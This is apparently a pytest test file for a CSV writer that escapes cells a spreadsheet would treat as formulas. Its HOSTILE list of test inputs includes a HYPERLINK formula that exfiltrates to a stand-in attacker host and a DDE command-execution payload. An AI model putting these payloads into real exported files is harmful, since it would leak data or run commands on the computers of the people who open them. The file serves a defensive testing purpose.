"""The one CSV writer (workflows/spreadsheet.py): a text cell a spreadsheet
would run as a formula is written as text, whatever hides the sign; numbers
and dates stay what they are; a value that is not a cell is refused."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workflows.spreadsheet import FORMULA_STARTS, csv_cell, csv_text, spreadsheet_safe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\uff1d1+1",  # a full-width equals sign
    "=cmd|' /C calc'!A0",
]


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(cell):
    [header, row] = _read(csv_text(["name"], [[cell]]))
    assert header == ["name"] and row == ["'" + cell]


def test_text_that_only_contains_a_sign_inside_is_left_as_it_is():
    for cell in ("O'Brien", "12-034", "a=b", "Chen, Wei", "100 Main St", ""):
        assert spreadsheet_safe(cell) == cell


def test_numbers_and_dates_are_written_as_themselves_not_guarded():
    [_, row] = _read(
        csv_text(["a", "b", "c", "d", "e", "f", "g"], [[-5, 2.5, Decimal("-1.10"), date(2026, 12, 1), None, True, False]])
    )
    assert row == ["-5", "2.5", "-1.10", "2026-12-01", "", "yes", "no"]
    assert csv_cell(datetime(2026, 12, 1, 19, 0)) == "2026-12-01T19:00"


def test_a_value_that_is_not_a_cell_is_refused_rather_than_written_as_its_repr():
    with pytest.raises(TypeError, match="not dict"):
        csv_text(["a"], [[{"name": "=1"}]])
    with pytest.raises(TypeError, match="not list"):
        csv_cell(["=1"])


def test_a_row_of_the_wrong_length_is_refused():
    with pytest.raises(ValueError, match="row 2 has 1 cells, the header 2"):
        csv_text(["a", "b"], [["x", "y"], ["z"]])


def test_the_header_goes_through_the_guard_too():
    assert _read(csv_text(["=bad"], []))[0] == ["'=bad"]


@given(st.text())
def test_any_text_reads_back_as_itself_or_as_itself_behind_one_apostrophe_and_never_starts_a_formula(text):
    [_, row] = _read(csv_text(["x"], [[text]]))
    assert len(row) == 1
    cell = row[0]
    assert cell in (text, "'" + text)
    stripped = cell.lstrip(" \u00a0\u3000\t\r\n\v\f")
    assert not cell or cell[0] == "'" or (cell[0] not in FORMULA_STARTS and (not stripped or stripped[0] not in FORMULA_STARTS))
